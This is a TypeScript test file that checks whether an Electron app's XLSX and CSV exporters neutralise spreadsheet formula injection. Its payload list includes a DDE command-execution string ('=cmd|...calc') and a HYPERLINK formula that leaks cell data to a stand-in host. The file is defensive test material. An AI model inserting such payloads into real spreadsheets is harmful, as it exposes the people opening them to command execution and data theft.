import { globSync, readFileSync } from 'node:fs';
import { strFromU8, unzipSync } from 'fflate';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { writeCsv } from '#electron/core/files/csv.ts';
import { writeAbgleich } from '#electron/core/files/halbjahr-abgleich.ts';
import { writeVorlage } from '#electron/core/files/halbjahr-vorlage.ts';
import { writeRueckgabe } from '#electron/core/files/rueckgabe.ts';
import { writeStatistik } from '#electron/core/files/statistik-mappe.ts';
import { writeXlsx } from '#electron/core/files/xlsx.ts';
import { asDatum } from '#shared/lib/datum.ts';

const HEUTE = asDatum('2026-11-20');
/** What a spreadsheet would take for a formula or a link to another program, in every way it can begin. */
const BOESE = [
  "=cmd|' /C calc'!A0",
  '+1+cmd',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '=HYPERLINK("https://beispiel.invalid?x="&A1;"hier")',
  '＝1+1',
  '"=1+1',
];
const [erstes = ''] = BOESE;
const zeile = { name: erstes, programmNr: erstes };

const MAPPEN: Readonly<Record<string, () => Promise<Uint8Array>>> = {
  'jede einfache Mappe (Fälle, Übergabe, Bündel)': () =>
    writeXlsx({
      titel: erstes,
      verfasser: erstes,
      datum: HEUTE,
      blaetter: [
        {
          name: 'Blatt',
          titel: erstes,
          angaben: BOESE.map((text) => [text, text] as const),
          spalten: [
            { kopf: erstes, breite: 20, art: 'text' },
            { kopf: erstes, breite: 20, art: 'zahl' },
          ],
          zeilen: BOESE.map((text) => [text, text]),
          summe: [erstes, erstes],
          fussnote: erstes,
        },
      ],
    }),
  'die Rückgabedatei des Imports': () =>
    writeRueckgabe({
      kopf: [{ nr: 1, zellen: ['Name', ...BOESE] }],
      zeilen: [
        { nr: 2, zellen: ['Muster', ...BOESE], problem: erstes, markiert: [1] },
        { nr: 3, zellen: [{ fehler: '=1+1' }, { tag: '2026-01-01' }], problem: erstes, markiert: [] },
      ],
      problemspalte: BOESE.length + 1,
    }),
  'die Halbjahresstatistik der Behörde': () =>
    writeStatistik(
      [
        {
          id: 'traeger',
          titel: 'Träger',
          definition: erstes,
          einheit: 'Personen',
          stichtag: HEUTE,
          spalten: ['Personen'],
          zeilen: BOESE.map((label) => ({ label, werte: [1] })),
          summe: [BOESE.length],
        },
      ],
      { jahr: 2026, halbjahr: 2, heute: HEUTE, behoerde: erstes, personen: 3 },
    ),
  'der Abgleich mit einem Träger': () =>
    writeAbgleich({
      jahr: 2026,
      halbjahr: 2,
      heute: HEUTE,
      behoerde: erstes,
      traeger: erstes,
      inBeiden: [zeile],
      abweichungen: BOESE.map((text) => ({
        ...zeile,
        was: text,
        nr: 1,
        gemeldetAls: text,
        text,
        stand: text,
      })),
    }),
  'die Vorlage für einen Träger': () =>
    writeVorlage({
      jahr: 2026,
      halbjahr: 2,
      traeger: { id: '11111111-1111-4111-8111-111111111111', name: erstes },
      behoerde: erstes,
      faelligAm: HEUTE,
      heute: HEUTE,
      personen: BOESE.map((text) => ({
        programmNr: text,
        nachname: text,
        vornamen: text,
        geburtsdatum: null,
        seit: null,
        bis: null,
      })),
    }),
};

describe('Nichts, was jemand getippt hat, wird in einer Tabelle zur Formel', () => {
  it.each(Object.entries(MAPPEN))('%s', async (was, write) => {
    const teile = unzipSync(await write());
    const blaetter = Object.entries(teile).filter(([name]) => name.startsWith('xl/worksheets/sheet'));
    expect(blaetter.length).toBeGreaterThan(0);
    const formeln = blaetter.flatMap(([, xml]) =>
      [...strFromU8(xml).matchAll(/<f\b[^>]*>([^<]*)<\/f>/g)].map(([, f]) => f ?? ''),
    );
    // Only the sheet „Zahlen“ of the template reckons, with formulas of its own.
    expect(formeln.length > 0).toBe(was === 'die Vorlage für einen Träger');
    for (const formel of formeln) expect(formel).toMatch(/^(?:SUMPRODUCT\(|B5-B6-B7$)/);
    // A cell with text is a text cell: anything else would be read as a value or a formula.
    const texte = strFromU8(teile['xl/sharedStrings.xml'] ?? new Uint8Array());
    expect(texte).toContain('SUM(1+1)');
    for (const [, xml] of blaetter)
      for (const [, art, wert] of strFromU8(xml).matchAll(/<c\b[^>]*?(?: t="(\w+)")?[^>]*><v>([^<]*)<\/v>/g))
        if (art === undefined || art === 'n') expect(Number.isFinite(Number(wert)), `${wert}`).toBe(true);
        else expect(['s', 'b', 'str']).toContain(art);
    // No links to other files, no data connections, no macros.
    expect(
      Object.keys(teile).filter((name) => /externalLink|connections|vbaProject|hyperlink/i.test(name)),
    ).toEqual([]);
  });

  it('auch nicht in einer CSV-Datei: jedes solche Feld beginnt mit einem Apostroph', () => {
    const text = writeCsv(
      [erstes, 'kopf'],
      BOESE.map((wert) => [wert, -5]),
    );
    const { data } = Papa.parse<string[]>(text.trimEnd(), { newline: '\r\n' });
    expect(data).toHaveLength(BOESE.length + 1);
    for (const [feld = ''] of data) expect(feld.trimStart()).not.toMatch(/^[=+\-@＝＋－＠]/);
    // Zahlen bleiben Zahlen, auch negative.
    expect(data[1]?.[1]).toBe('-5');
  });

  it('wer Zellen selbst schreibt statt durch writeXlsx und writeCsv, muss hier stehen', () => {
    const writers = globSync('electron/**/*.ts').filter((file) =>
      /new Workbook\(\)|unparse\(|join\('[;,]'\)\s*\+\s*'\\r?\\n/.test(readFileSync(file, 'utf8')),
    );
    expect(writers.map((file) => file.replaceAll('\\', '/')).toSorted()).toEqual([
      'electron/core/files/halbjahr-vorlage.ts',
      'electron/core/files/rueckgabe.ts',
      'electron/core/files/xlsx.ts',
    ]);
  });
});
